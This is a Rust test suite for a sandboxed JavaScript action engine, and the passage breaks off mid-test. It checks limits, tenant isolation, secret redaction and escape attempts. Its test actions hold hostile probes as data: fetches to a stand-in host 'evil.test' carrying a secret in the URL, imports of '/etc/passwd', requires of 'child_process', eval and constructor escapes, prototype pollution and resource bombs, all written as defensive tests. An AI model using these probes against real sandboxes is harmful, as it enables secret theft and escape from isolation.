//! The hostile suite for the custom-action engine: api behaviour, every limit, escape attempts
//! and isolation, all against one shared engine so many actions are loaded in one process.
//!
//! Tests assert outcomes only, never timing.

use std::collections::BTreeMap;
use std::sync::OnceLock;

use authflow::js::{
    ActionInput, ActionOutcome, ActionSource, Engine, EngineConfig, FailureKind, FetchPolicy,
    LimitKind, Limits, LogLevel, ModuleSource, RecordedResponse, Trigger,
};
use serde_json::{Value, json};

/// The custom-action quickstart, as the log-user example workspace ships it.
const LOG_USER: &str = include_str!("../examples/log-user/actions/log-user.js");

fn engine() -> &'static Engine {
    static ENGINE: OnceLock<Engine> = OnceLock::new();
    ENGINE.get_or_init(|| match Engine::new(EngineConfig::default()) {
        Ok(engine) => engine,
        Err(error) => panic!("engine: {error}"),
    })
}

fn action(slug: &str, code: &str) -> ActionSource {
    ActionSource {
        slug: slug.to_owned(),
        file_name: format!("{slug}.js"),
        code: code.to_owned(),
        trigger: Trigger::Login,
        modules: Vec::new(),
        secrets: BTreeMap::new(),
    }
}

fn tight_limits() -> Limits {
    // Generous wall time: tests run in parallel on a busy machine, and CPU time is what the
    // runaway-loop tests must hit.
    Limits {
        cpu_ms: 400,
        wall_ms: 10_000,
        heap_bytes: 16 * 1024 * 1024,
        ..Limits::default()
    }
}

fn run_with(
    tenant: &str,
    action: &ActionSource,
    event: &Value,
    limits: &Limits,
    fetch: &FetchPolicy,
) -> ActionOutcome {
    engine().run(
        tenant,
        action,
        ActionInput {
            event,
            limits,
            fetch,
            clock_ms: 1_700_000_000_000,
        },
    )
}

/// Runs `action` for "tenant" on `engine`, with the US user's event and the tight limits.
fn run_on(engine: &Engine, action: &ActionSource) -> ActionOutcome {
    let (limits, fetch, event) = (tight_limits(), FetchPolicy::default(), us_user());
    let input = ActionInput {
        event: &event,
        limits: &limits,
        fetch: &fetch,
        clock_ms: 0,
    };
    engine.run("tenant", action, input)
}

fn run(action: &ActionSource, event: &Value) -> ActionOutcome {
    run_with(
        "tenant-a",
        action,
        event,
        &tight_limits(),
        &FetchPolicy::default(),
    )
}

fn us_user() -> Value {
    json!({
        "user": { "email": "ada@example.com", "app_metadata": { "plan": "free", "seats": 1 } },
        "request": { "ip": "203.0.113.9", "geo": { "country": "US" }, "asn": { "is_tor": false } }
    })
}

fn failure_kind(outcome: &ActionOutcome) -> Option<FailureKind> {
    outcome.failure.as_ref().map(|failure| failure.kind)
}

fn assert_ok(outcome: &ActionOutcome) {
    assert_eq!(
        outcome.failure, None,
        "unexpected failure; logs: {:?}",
        outcome.logs
    );
}

fn assert_limit(outcome: &ActionOutcome, kind: LimitKind) {
    assert_eq!(
        failure_kind(outcome),
        Some(FailureKind::Limit(kind)),
        "{:?}",
        outcome.failure
    );
}

/// Runs a probe action that reports `expression`'s value through api.state.
fn probe(slug: &str, body: &str) -> ActionOutcome {
    let code = format!("exports.handler = async (event, api) => {{\n{body}\n}};\n");
    run(&action(slug, &code), &us_user())
}

fn state(outcome: &ActionOutcome, key: &str) -> Option<Value> {
    outcome
        .state_writes
        .iter()
        .rev()
        .find(|(k, _)| k == key)
        .map(|(_, v)| v.clone())
}

// --- The api ----------------------------------------------------------------------------------

#[test]
fn log_user_happy_path() {
    let outcome = run(&action("log-user", LOG_USER), &us_user());
    assert_ok(&outcome);
    assert_eq!(outcome.logs.len(), 1);
    assert_eq!(outcome.logs[0].level, LogLevel::Info);
    assert_eq!(
        outcome.logs[0].message,
        "log-user: login for ada@example.com"
    );
    assert_eq!(
        outcome.state_writes,
        vec![
            ("seen_email".to_owned(), json!("ada@example.com")),
            ("country".to_owned(), json!("US")),
        ]
    );
}

#[test]
fn log_user_early_return_without_user() {
    let outcome = run(
        &action("log-user", LOG_USER),
        &json!({ "request": { "ip": "198.51.100.1" } }),
    );
    assert_ok(&outcome);
    assert_eq!(outcome.logs.len(), 1);
    assert_eq!(outcome.logs[0].level, LogLevel::Warn);
    assert!(outcome.state_writes.is_empty());
}

#[test]
fn tor_exit_nodes_are_denied() {
    let code = r#"exports.handler = async function (event, api) {
  if (event.request.asn && event.request.asn.is_tor) {
    api.deny('Tor exit nodes are not permitted');
    return;
  }
  api.state.set('allowed', true);
};"#;
    let tor = json!({ "request": { "asn": { "is_tor": true } } });
    let outcome = run(&action("deny-tor", code), &tor);
    assert_ok(&outcome);
    assert_eq!(
        outcome.denied.as_deref(),
        Some("Tor exit nodes are not permitted")
    );
    let outcome = run(&action("deny-tor", code), &us_user());
    assert_eq!(outcome.denied, None);
    assert_eq!(state(&outcome, "allowed"), Some(json!(true)));
}

#[test]
fn country_review_sets_state_and_claim() {
    let code = r#"const REVIEW = new Set(['KP', 'IR']);
exports.handler = async (event, api) => {
  const country = event.request?.geo?.country;
  const review = REVIEW.has(country);
  api.state.set('needs_review', review);
  if (review) api.session.setCustomClaim('https://example.com/review', { country });
};"#;
    let flagged = json!({ "request": { "geo": { "country": "KP" } } });
    let outcome = run(&action("country-review", code), &flagged);
    assert_ok(&outcome);
    assert_eq!(state(&outcome, "needs_review"), Some(json!(true)));
    assert_eq!(
        outcome.claims,
        vec![(
            "https://example.com/review".to_owned(),
            json!({ "country": "KP" })
        )]
    );
    let outcome = run(&action("country-review", code), &us_user());
    assert_eq!(state(&outcome, "needs_review"), Some(json!(false)));
    assert!(outcome.claims.is_empty());
}

#[test]
fn app_metadata_patches_merge_shallowly_and_show_at_once() {
    let outcome = probe(
        "metadata-merge",
        r#"api.user.setAppMetadata({ plan: 'pro', prefs: { theme: 'dark', lang: 'en' } });
api.user.setAppMetadata({ prefs: { theme: 'light' }, seats: null });
const md = event.user.app_metadata;
api.state.set('view', md);
api.state.set('frozen', Object.isFrozen(md));"#,
    );
    assert_ok(&outcome);
    assert_eq!(
        state(&outcome, "view"),
        Some(json!({ "plan": "pro", "prefs": { "theme": "light" } }))
    );
    assert_eq!(state(&outcome, "frozen"), Some(json!(true)));
    let mut expected = serde_json::Map::new();
    expected.insert("plan".to_owned(), json!("pro"));
    expected.insert("prefs".to_owned(), json!({ "theme": "light" }));
    expected.insert("seats".to_owned(), Value::Null);
    assert_eq!(outcome.metadata_patch, expected);
}

#[test]
fn log_levels_outside_the_four_are_rejected() {
    let outcome = probe(
        "bad-level",
        "try { api.log('fatal', 'x') } catch (e) { api.state.set('caught', true) }",
    );
    assert_eq!(failure_kind(&outcome), Some(FailureKind::Api));
    assert_eq!(state(&outcome, "caught"), Some(json!(true)));
    assert!(outcome.logs.is_empty());
}

#[test]
fn modules_resolve_pinned_versions_with_their_own_secrets() {
    let mut source = action(
        "uses-logger",
        r#"const logger = require('actions:logger');
exports.handler = async (event, api) => {
  api.state.set('version', logger.version);
  api.state.set('key_length', logger.keyLength());
  api.state.set('same', require('actions:logger') === logger);
  api.state.set('action_sees_module_secret', typeof actions !== 'undefined');
  api.log('info', 'key is ' + logger.leak());
};"#,
    );
    source.modules.push(ModuleSource {
        name: "logger".to_owned(),
        version: "3".to_owned(),
        file_name: "index.js".to_owned(),
        code: r#"globalThis.loggerLoads = (globalThis.loggerLoads || 0) + 1;
module.exports = {
  version: 'v3',
  keyLength: () => actions.secrets.API_KEY.length,
  leak: () => actions.secrets.API_KEY,
  loads: () => globalThis.loggerLoads,
};"#
        .to_owned(),
        secrets: BTreeMap::from([("API_KEY".to_owned(), "sk-module-123456".to_owned())]),
        packages: Vec::new(),
        requires: BTreeMap::new(),
    });
    let outcome = run(&source, &us_user());
    assert_ok(&outcome);
    assert_eq!(state(&outcome, "version"), Some(json!("v3")));
    assert_eq!(state(&outcome, "key_length"), Some(json!(16)));
    assert_eq!(state(&outcome, "same"), Some(json!(true)));
    assert_eq!(
        state(&outcome, "action_sees_module_secret"),
        Some(json!(false))
    );
    assert_eq!(outcome.logs[0].message, "key is [redacted:API_KEY]");
}

#[test]
fn a_script_that_breaks_out_of_its_wrapper_cannot_take_a_modules_secrets() {
    // The action's text closes the wrapper the engine puts around it and, while the scripts
    // load, defines its own factory under the module's name: it must not be handed the
    // module's secrets (they are given only to the module's own script, once).
    let mut source = action(
        "breakout",
        r#"exports.handler = async (event, api) => {
  const stolen = require('actions:vault');
  api.state.set('secret_length', stolen.length());
};
}); __authflow_define("module", "vault", function (exports, require, module, actions) {
  module.exports = { length: () => (actions.secrets.KEY || '').length };
}); (function () {"#,
    );
    source.modules.push(ModuleSource {
        name: "vault".to_owned(),
        version: "1".to_owned(),
        file_name: "index.js".to_owned(),
        code: "module.exports = { length: () => -1 };".to_owned(),
        secrets: BTreeMap::from([("KEY".to_owned(), "vault-key-5e2a91".to_owned())]),
        packages: Vec::new(),
        requires: BTreeMap::new(),
    });
    let outcome = run(&source, &us_user());
    assert_ok(&outcome);
    assert_eq!(state(&outcome, "secret_length"), Some(json!(0)));
}

#[test]
fn unknown_action_modules_and_node_builtins_fail_clearly() {
    let outcome = probe("require-missing", "require('actions:nope')");
    assert_eq!(failure_kind(&outcome), Some(FailureKind::Rejected));
    let message = outcome.failure.map(|f| f.message).unwrap_or_default();
    assert!(message.contains("not attached"), "{message}");
}

#[test]
fn secrets_are_redacted_everywhere() {
    let mut source = action(
        "secret-leak",
        r#"exports.handler = async (event, api) => {
  const s = event.secrets.TOKEN;
  api.log('info', 'token=' + s);
  api.state.set('t', { [s]: s });
  api.session.setCustomClaim('c', s);
  api.user.setAppMetadata({ k: s });
  api.deny(s);
  throw new Error('failed with ' + s);
};"#,
    );
    source
        .secrets
        .insert("TOKEN".to_owned(), "hunter2-secret".to_owned());
    let outcome = run(&source, &us_user());
    let text = serde_json::to_string(&outcome).unwrap_or_default();
    assert!(!text.contains("hunter2-secret"), "{text}");
    assert!(text.contains("[redacted:TOKEN]"));
    assert_eq!(failure_kind(&outcome), Some(FailureKind::Rejected));
}

#[test]
fn fetch_serves_recorded_responses_on_the_allowlist() {
    let code = r#"exports.handler = async (event, api) => {
  const res = await api.fetch('https://risk.example.com/score?ip=1', { method: 'post' });
  const body = await res.json();
  api.state.set('score', body.score);
  api.state.set('ok', res.ok);
  api.state.set('ct', res.headers.get('Content-Type'));
};"#;
    let fetch = FetchPolicy {
        allow_prefixes: vec!["https://risk.example.com".to_owned()],
        responses: BTreeMap::from([(
            "https://risk.example.com/score?ip=1".to_owned(),
            RecordedResponse {
                status: 200,
                headers: BTreeMap::from([(
                    "content-type".to_owned(),
                    "application/json".to_owned(),
                )]),
                body: r#"{"score": 0.93}"#.to_owned(),
            },
        )]),
    };
    let outcome = run_with(
        "tenant-a",
        &action("fetch-ok", code),
        &us_user(),
        &tight_limits(),
        &fetch,
    );
    assert_ok(&outcome);
    assert_eq!(state(&outcome, "score"), Some(json!(0.93)));
    assert_eq!(state(&outcome, "ok"), Some(json!(true)));
    assert_eq!(state(&outcome, "ct"), Some(json!("application/json")));
    assert_eq!(outcome.fetches.len(), 1);
    assert_eq!(outcome.fetches[0].method, "POST");
    assert_eq!(outcome.fetches[0].status, Some(200));
}

#[test]
fn event_stream_actions_have_no_deny() {
    let mut source = action(
        "stream",
        r#"exports.onExecuteEventStream = async (event, api) => {
  api.log('info', 'got ' + event.message.type);
  try { api.deny('no'); } catch (e) { api.log('warn', e.message); }
};"#,
    );
    source.trigger = Trigger::EventStream;
    let outcome = run(&source, &json!({ "message": { "type": "s" } }));
    assert_eq!(failure_kind(&outcome), Some(FailureKind::Api));
    assert_eq!(outcome.denied, None);
    assert_eq!(outcome.logs[0].message, "got s");
    assert!(
        outcome.logs[1]
            .message
            .contains("not available to event-stream")
    );
}

#[test]
fn missing_entry_point_is_an_api_failure() {
    let outcome = run(
        &action("no-entry", "exports.handle = async () => {};"),
        &us_user(),
    );
    assert_eq!(failure_kind(&outcome), Some(FailureKind::Api));
}

// --- Failures and locations -------------------------------------------------------------------

#[test]
fn syntax_errors_point_into_the_users_file() {
    let outcome = run(
        &action("syntax", "exports.handler = async () => {\n  let x = ;\n};"),
        &us_user(),
    );
    let failure = outcome
        .failure
        .unwrap_or_else(|| panic!("expected a failure"));
    assert_eq!(failure.kind, FailureKind::Syntax);
    assert_eq!(failure.file.as_deref(), Some("syntax.js"));
    assert_eq!(failure.line, Some(2));
}

#[test]
fn thrown_errors_keep_earlier_logs_and_their_line() {
    let code = "exports.handler = async (event, api) => {\n  api.log('info', 'before');\n  throw new Error('boom');\n};";
    let outcome = run(&action("throws", code), &us_user());
    assert_eq!(outcome.logs.len(), 1);
    let failure = outcome
        .failure
        .unwrap_or_else(|| panic!("expected a failure"));
    assert_eq!(failure.kind, FailureKind::Rejected);
    assert_eq!(failure.message, "Error: boom");
    assert_eq!(failure.line, Some(3));
}

#[test]
fn synchronous_throws_and_top_level_throws_are_threw() {
    let code = "exports.handler = function (event, api) {\n  throw new TypeError('sync');\n};";
    let outcome = run(&action("sync-throw", code), &us_user());
    assert_eq!(failure_kind(&outcome), Some(FailureKind::Threw));
    assert_eq!(outcome.failure.and_then(|f| f.line), Some(2));
    let outcome = run(&action("top-throw", "throw new Error('top');"), &us_user());
    let failure = outcome
        .failure
        .unwrap_or_else(|| panic!("expected a failure"));
    assert_eq!(failure.kind, FailureKind::Threw);
    assert_eq!(failure.line, Some(1));
    // QuickJS locates a `throw new Error(..)` at the `new` expression.
    assert!(failure.column.is_some());
}

#[test]
fn rejected_with_non_error_value() {
    let outcome = probe("reject-value", "return Promise.reject('nope');");
    assert_eq!(failure_kind(&outcome), Some(FailureKind::Rejected));
}

// --- Limits -----------------------------------------------------------------------------------

#[test]
fn limit_while_true() {
    assert_limit(&probe("cpu-while", "while (true) {}"), LimitKind::CpuTime);
}

#[test]
fn limit_for_ever() {
    assert_limit(
        &probe("cpu-for", "api.log('info', 'start'); for (;;) {}"),
        LimitKind::CpuTime,
    );
}

#[test]
fn limit_wall_time_when_wall_is_tighter() {
    let limits = Limits {
        cpu_ms: 5_000,
        wall_ms: 200,
        ..tight_limits()
    };
    let outcome = run_with(
        "tenant-a",
        &action(
            "wall-loop",
            "exports.handler = async () => { for (;;) {} };",
        ),
        &us_user(),
        &limits,
        &FetchPolicy::default(),
    );
    assert_limit(&outcome, LimitKind::WallTime);
}

#[test]
fn limit_microtask_flood() {
    assert_limit(
        &probe(
            "microtasks",
            "const spin = () => queueMicrotask(spin); spin(); await new Promise(() => {});",
        ),
        LimitKind::CpuTime,
    );
}

#[test]
fn limit_never_settling_promise() {
    assert_limit(
        &probe("never-settles", "await new Promise(() => {});"),
        LimitKind::WallTime,
    );
}

#[test]
fn limit_recursion() {
    let outcome = probe("recursion", "const f = (n) => f(n + 1) + 1; f(0);");
    assert_limit(&outcome, LimitKind::Stack);
}

#[test]
fn limit_array_allocation_bomb() {
    let outcome = probe(
        "array-bomb",
        "const a = []; for (;;) a.push(new Array(1000).fill(a.length));",
    );
    assert_limit(&outcome, LimitKind::Heap);
}

#[test]
fn limit_string_allocation_bomb() {
    // Doubling reaches the heap limit long before the engine's maximum string length.
    let outcome = probe(
        "string-bomb",
        "let s = 'x'; const keep = []; for (;;) { s = s + s + '.'; keep.push(s); }",
    );
    assert_limit(&outcome, LimitKind::Heap);
    let outcome = probe(
        "repeat-bomb",
        "const s = 'x'.repeat(1 << 28); api.state.set('n', s.length);",
    );
    assert_limit(&outcome, LimitKind::Heap);
}

#[test]
fn limit_log_flood() {
    let outcome = probe(
        "log-flood",
        "for (let i = 0; i < 1000; i++) { try { api.log('info', 'line ' + i) } catch (e) {} }",
    );
    assert_limit(&outcome, LimitKind::LogLines);
    assert_eq!(outcome.logs.len(), Limits::default().log_lines);
}

#[test]
fn limit_log_bytes() {
    assert_limit(
        &probe("log-bytes", "api.log('info', 'x'.repeat(1 << 20));"),
        LimitKind::LogBytes,
    );
}

#[test]
fn limit_state_size() {
    assert_limit(
        &probe("state-size", "api.state.set('big', 'x'.repeat(1 << 20));"),
        LimitKind::StateBytes,
    );
}

#[test]
fn limit_claims_and_metadata_size() {
    assert_limit(
        &probe(
            "claims-size",
            "api.session.setCustomClaim('big', 'x'.repeat(1 << 20));",
        ),
        LimitKind::ClaimsBytes,
    );
    assert_limit(
        &probe(
            "metadata-size",
            "api.user.setAppMetadata({ big: 'x'.repeat(1 << 20) });",
        ),
        LimitKind::MetadataBytes,
    );
}

#[test]
fn limit_fetch_outside_allowlist() {
    let fetch = FetchPolicy {
        allow_prefixes: vec!["https://api.example.com".to_owned()],
        responses: BTreeMap::new(),
    };
    for url in ["https://evil.test/x", "https://api.example.com.evil.test/x"] {
        let code = format!(
            "exports.handler = async () => {{ try {{ await fetch('{url}') }} catch (e) {{}} }};"
        );
        let outcome = run_with(
            "tenant-a",
            &action("fetch-deny", &code),
            &us_user(),
            &tight_limits(),
            &fetch,
        );
        assert_limit(&outcome, LimitKind::FetchNotAllowed);
        assert!(!outcome.fetches[0].allowed);
    }
}

#[test]
fn limit_fetch_count() {
    let url = "https://api.example.com/ping";
    let fetch = FetchPolicy {
        allow_prefixes: vec!["https://api.example.com/".to_owned()],
        responses: BTreeMap::from([(
            url.to_owned(),
            RecordedResponse {
                status: 204,
                headers: BTreeMap::new(),
                body: String::new(),
            },
        )]),
    };
    let code = format!("exports.handler = async () => {{ for (;;) await fetch('{url}'); }};");
    let outcome = run_with(
        "tenant-a",
        &action("fetch-count", &code),
        &us_user(),
        &tight_limits(),
        &fetch,
    );
    assert_limit(&outcome, LimitKind::FetchCount);
}

// --- Escape attempts --------------------------------------------------------------------------

#[test]
fn escape_deno_and_bootstrap_are_gone() {
    let outcome = probe(
        "escape-deno",
        r#"api.state.set('deno', typeof Deno);
api.state.set('bootstrap', typeof __bootstrap);
api.state.set('names', Object.getOwnPropertyNames(globalThis).filter(n => /deno|v8x|bootstrap|authflow/i.test(n)));"#,
    );
    assert_ok(&outcome);
    assert_eq!(state(&outcome, "deno"), Some(json!("undefined")));
    assert_eq!(state(&outcome, "bootstrap"), Some(json!("undefined")));
    assert_eq!(state(&outcome, "names"), Some(json!([])));
}

#[test]
fn escape_proto_tricks_find_no_ops() {
    let outcome = probe(
        "escape-proto",
        r#"const seen = [];
for (const root of [globalThis, Object.getPrototypeOf(globalThis), globalThis.__proto__, api, event]) {
  if (!root) continue;
  for (const name of Reflect.ownKeys(root)) {
    let v; try { v = root[name]; } catch (e) { continue; }
    if (v && (typeof v === 'object' || typeof v === 'function') && ('ops' in v || 'core' in v)) seen.push(String(name));
  }
}
api.state.set('seen', seen);"#,
    );
    assert_ok(&outcome);
    assert_eq!(state(&outcome, "seen"), Some(json!([])));
}

#[test]
fn escape_function_constructor_and_eval() {
    let outcome = probe(
        "escape-function",
        r#"const attempts = {
  Function: () => Function('return this')(),
  ctor: () => (function () {}).constructor('return this')(),
  asyncCtor: () => (async function () {}).constructor('return 1'),
  genCtor: () => (function* () {}).constructor('yield 1'),
  eval: () => eval('1 + 1'),
  indirectEval: () => (0, globalThis.eval)('1'),
};
const results = {};
for (const [name, f] of Object.entries(attempts)) {
  try { f(); results[name] = 'ran'; } catch (e) { results[name] = 'blocked'; }
}
api.state.set('results', results);
api.state.set('instanceof', (() => {}) instanceof Function);"#,
    );
    assert_ok(&outcome);
    assert_eq!(
        state(&outcome, "results"),
        Some(json!({
            "Function": "blocked", "ctor": "blocked", "asyncCtor": "blocked",
            "genCtor": "blocked", "eval": "blocked", "indirectEval": "blocked"
        }))
    );
    assert_eq!(state(&outcome, "instanceof"), Some(json!(true)));
}

#[test]
fn escape_webassembly_shadowrealm_and_clock() {
    let outcome = probe(
        "escape-wasm",
        r#"api.state.set('types', [typeof WebAssembly, typeof ShadowRealm, typeof SharedArrayBuffer,
  typeof Atomics, typeof performance, typeof setTimeout, typeof process, typeof globalThis.require,
  typeof Temporal === 'object' ? typeof Temporal.Now : 'undefined']);
api.state.set('now', Date.now());
api.state.set('date', new Date().getTime());"#,
    );
    assert_ok(&outcome);
    assert_eq!(state(&outcome, "types"), Some(json!(vec!["undefined"; 9])));
    assert_eq!(state(&outcome, "now"), Some(json!(1_700_000_000_000_i64)));
    assert_eq!(state(&outcome, "date"), Some(json!(1_700_000_000_000_i64)));
}

#[test]
fn escape_dynamic_import_fails() {
    let outcome = probe(
        "escape-import",
        r#"try { await import('data:text/javascript,export default 1'); api.state.set('import', 'ran'); }
catch (e) { api.state.set('import', 'blocked'); }
try { await import('file:///etc/passwd'); api.state.set('file', 'ran'); }
catch (e) { api.state.set('file', 'blocked'); }"#,
    );
    assert_ok(&outcome);
    assert_eq!(state(&outcome, "import"), Some(json!("blocked")));
    assert_eq!(state(&outcome, "file"), Some(json!("blocked")));
}

#[test]
fn escape_require_fs_and_process() {
    for specifier in ["fs", "child_process", "node:fs", "actions:../fs"] {
        let outcome = probe("escape-require", &format!("require('{specifier}');"));
        assert!(outcome.failure.is_some(), "require('{specifier}') worked");
    }
    let outcome = probe(
        "escape-env",
        "api.state.set('env', typeof process === 'undefined' ? null : process.env);",
    );
    assert_eq!(state(&outcome, "env"), Some(Value::Null));
}

#[test]
fn escape_event_mutation_is_impossible() {
    let outcome = probe(
        "mutate-event",
        r#"const tries = [];
const before = JSON.stringify(event);
const attempt = (f) => { try { f(); } catch (e) {} tries.push(JSON.stringify(event) === before ? 'unchanged' : 'changed'); };
attempt(() => { event.user.email = 'x'; });
attempt(() => { event.request.geo.country = 'FR'; });
attempt(() => { event.user.app_metadata.plan = 'pro'; });
attempt(() => { delete event.user; });
attempt(() => { Object.defineProperty(event.user, 'app_metadata', { value: {} }); });
api.state.set('tries', tries);
api.state.set('email', event.user.email);"#,
    );
    assert_ok(&outcome);
    assert_eq!(state(&outcome, "tries"), Some(json!(vec!["unchanged"; 5])));
    assert_eq!(state(&outcome, "email"), Some(json!("ada@example.com")));
}

#[test]
fn escape_api_is_frozen() {
    let outcome = probe(
        "mutate-api",
        "try { api.log = () => {}; } catch (e) {}\napi.log('info', 'still real');",
    );
    assert_ok(&outcome);
    assert_eq!(outcome.logs.len(), 1);
}

// --- Isolation and endurance ------------------------------------------------------------------

#[test]
fn tenants_never_share_globals() {
    let code = r#"exports.handler = async (event, api) => {
  api.state.set('seen', globalThis.x ?? null);
  globalThis.x = event.tenant_marker;
};"#;
    let source = action("shared-code", code);
    let limits = tight_limits();
    let fetch = FetchPolicy::default();
    let first = run_with(
        "tenant-a",
        &source,
        &json!({ "tenant_marker": "A" }),
        &limits,
        &fetch,
    );
    let second = run_with(
        "tenant-a",
        &source,
        &json!({ "tenant_marker": "A2" }),
        &limits,
        &fetch,
    );
    let other = run_with(
        "tenant-b",
        &source,
        &json!({ "tenant_marker": "B" }),
        &limits,
        &fetch,
    );
    assert_eq!(state(&first, "seen"), Some(Value::Null));
    // Warm reuse within one tenant's action is allowed (documented).
    assert_eq!(state(&second, "seen"), Some(json!("A")));
    assert_eq!(state(&other, "seen"), Some(Value::Null));
}

#[test]
fn a_changed_source_gets_its_own_runtime() {
    // Same tenant and slug; a different secret value, module code or action code is another
    // runtime, and each version keeps its own warm globals.
    let code = r#"exports.handler = async (event, api) => {
  api.state.set('seen', globalThis.version ?? null);
  globalThis.version = event.marker;
};"#;
    let v1 = action("versioned", code);
    let mut v2 = v1.clone();
    v2.secrets = BTreeMap::from([("KEY".to_owned(), "changed".to_owned())]);
    let mut v3 = v1.clone();
    v3.modules.push(ModuleSource {
        name: "m".to_owned(),
        version: "1".to_owned(),
        file_name: "m.js".to_owned(),
        code: "module.exports = 1;".to_owned(),
        secrets: BTreeMap::new(),
        packages: Vec::new(),
        requires: BTreeMap::new(),
    });
    let mut v4 = v3.clone();
    v4.modules[0].code = "module.exports = 2;".to_owned();
    let seen = |source: &ActionSource, marker: &str| {
        state(&run(source, &json!({ "marker": marker })), "seen")
    };
    assert_eq!(seen(&v1, "v1"), Some(Value::Null));
    assert_eq!(seen(&v2, "v2"), Some(Value::Null));
    assert_eq!(seen(&v3, "v3"), Some(Value::Null));
    assert_eq!(seen(&v4, "v4"), Some(Value::Null));
    assert_eq!(seen(&v1, "v1 again"), Some(json!("v1")));
    assert_eq!(seen(&v4, "v4 again"), Some(json!("v4")));
}

#[test]
fn actions_of_one_tenant_do_not_share_globals() {
    let writer = action(
        "writer",
        "exports.handler = async () => { globalThis.leak = 'w'; Object.prototype.polluted = 1; };",
    );
    let reader = action(
        "reader",
        "exports.handler = async (e, api) => { api.state.set('leak', typeof leak); api.state.set('polluted', ({}).polluted ?? null); };",
    );
    assert_ok(&run(&writer, &us_user()));
    let outcome = run(&reader, &us_user());
    assert_eq!(state(&outcome, "leak"), Some(json!("undefined")));
    assert_eq!(state(&outcome, "polluted"), Some(Value::Null));
}

#[test]
fn many_runs_in_a_row_after_a_terminated_one() {
    let spinner = action("spinner", "exports.handler = async () => { for (;;) {} };");
    let bomb = action(
        "bomb",
        "exports.handler = async () => { const a = []; for (;;) a.push(new Array(1000).fill(1)); };",
    );
    let counter = action(
        "counter",
        "let n = 0; exports.handler = async (e, api) => { n += 1; api.state.set('n', n); };",
    );
    let log_user = action("log-user-endurance", LOG_USER);
    assert_limit(&run(&spinner, &us_user()), LimitKind::CpuTime);
    assert_limit(&run(&bomb, &us_user()), LimitKind::Heap);
    let mut last_n = 0;
    for i in 0..200 {
        let outcome = run(&log_user, &us_user());
        assert_ok(&outcome);
        assert_eq!(
            state(&outcome, "seen_email"),
            Some(json!("ada@example.com"))
        );
        let outcome = run(&counter, &us_user());
        assert_ok(&outcome);
        if let Some(Value::Number(n)) = state(&outcome, "n") {
            last_n = n.as_u64().unwrap_or(0);
        }
        if i % 50 == 0 {
            assert_limit(&run(&spinner, &us_user()), LimitKind::CpuTime);
        }
    }
    assert_eq!(last_n, 200);
}

/// A private engine caching `max_runtimes` runtimes, whose pool keeps one runtime ready with
/// the heap budget of [`tight_limits`] (the budget these tests run with).
fn pooled_engine(max_runtimes: usize) -> Engine {
    let config = EngineConfig {
        max_runtimes,
        warm_runtimes: 1,
        warm_heap_bytes: tight_limits().heap_bytes,
        ..EngineConfig::default()
    };
    match Engine::new(config) {
        Ok(engine) => engine,
        Err(error) => panic!("engine: {error}"),
    }
}

#[test]
fn pooled_runtimes_never_carry_state_between_tenants() {
    // A private engine whose pool always holds a ready runtime, so every first run below binds
    // a pooled runtime.
    let pooled = pooled_engine(2);
    let code = r#"exports.handler = async (event, api) => {
  api.state.set('seen', [globalThis.marker ?? null, ({}).polluted ?? null, typeof [].push]);
  globalThis.marker = event.tenant_marker;
  Object.prototype.polluted = event.tenant_marker;
  Array.prototype.push = function () { return 'hijacked'; };
  Object.freeze = (value) => value;
};"#;
    let source = action("pool-probe", code);
    let limits = tight_limits();
    let fetch = FetchPolicy::default();
    for round in 0..6 {
        assert!(pooled.prewarm(std::time::Duration::from_secs(30)) >= 1);
        let tenant = format!("pool-tenant-{round}");
        let event = json!({ "tenant_marker": tenant, "user": { "email": "a@b.c" } });
        let input = ActionInput {
            event: &event,
            limits: &limits,
            fetch: &fetch,
            clock_ms: 0,
        };
        let first = pooled.run(&tenant, &source, input);
        assert_ok(&first);
        assert_eq!(
            state(&first, "seen"),
            Some(json!([null, null, "function"])),
            "round {round} saw another tenant's state"
        );
        // The same tenant's runtime keeps its own globals, and its hostile patches do not
        // break the harness (the event is still frozen, the api still records).
        let again = pooled.run(&tenant, &source, input);
        assert_ok(&again);
        assert_eq!(
            state(&again, "seen"),
            Some(json!([tenant, tenant, "function"]))
        );
    }
}

#[test]
fn the_harness_survives_tampered_builtins_across_runs() {
    let code = r#"let runs = 0;
exports.handler = async (event, api) => {
  runs += 1;
  try { event.user.email = 'x'; } catch (e) {}
  try { event.user.app_metadata.plan = 'pro'; } catch (e) {}
  // An array literal defines its elements, so the traps below do not touch it.
  api.state.set('tries', [event.user.email, event.user.app_metadata.plan ?? null]);
  api.state.set('runs', runs);
  Object.freeze = (value) => value;
  Object.isFrozen = () => true;
  Object.keys = () => [];
  Array.prototype.push = function () { return 0; };
  Object.defineProperty(Object.prototype, '0', { set() { throw new Error('trap'); }, configurable: true });
};"#;
    let source = action("tamper-builtins", code);
    let event =
        json!({ "user": { "email": "ada@example.com", "app_metadata": { "plan": "free" } } });
    for expected_runs in 1..=3 {
        let outcome = run(&source, &event);
        assert_ok(&outcome);
        assert_eq!(
            state(&outcome, "tries"),
            Some(json!(["ada@example.com", "free"]))
        );
        assert_eq!(state(&outcome, "runs"), Some(json!(expected_runs)));
    }
}

// --- Secrets: every form, before anything shortens them -----------------------------------------

/// Every string inside `outcome`, keys included.
fn strings_of(outcome: &ActionOutcome) -> Vec<String> {
    let mut found = Vec::new();
    let mut pending = vec![serde_json::to_value(outcome).unwrap_or(Value::Null)];
    while let Some(value) = pending.pop() {
        match value {
            Value::String(text) => found.push(text),
            Value::Array(items) => pending.extend(items),
            Value::Object(map) => {
                for (key, item) in map {
                    found.push(key);
                    pending.push(item);
                }
            }
            _ => {}
        }
    }
    found
}

/// Asserts that no string of `outcome` holds `needle` in any ASCII case.
fn assert_absent(outcome: &ActionOutcome, needle: &str) {
    let needle = needle.to_ascii_lowercase();
    for text in strings_of(outcome) {
        assert!(
            !text.to_ascii_lowercase().contains(&needle),
            "{needle:?} leaked in {text:?}"
        );
    }
}

#[test]
fn secrets_are_redacted_in_every_form_before_anything_shortens_them() {
    let token = "tok\"en\\value-8f3k2";
    let method = "patch-me-secret-31";
    let level = "level-secret-0123456789-abcdefghijklmnopqrstuvwxyz-0123456789";
    let in_url = "url-secret-4c8d1e2f";
    let mut source = action(
        "secret-forms",
        r#"exports.handler = async (event, api) => {
  const s = event.secrets;
  try { await fetch('https://api.example.com/x', { method: s.METHOD }); } catch (e) {}
  try { await fetch('https://evil.test/' + 'a'.repeat(180) + s.IN_URL); } catch (e) {}
  api.log('info', { t: s.TOKEN });
  api.log('info', JSON.stringify({ outer: JSON.stringify({ t: s.TOKEN }) }));
  api.log('info', s.TOKEN.toUpperCase() + ' ' + encodeURIComponent(s.TOKEN));
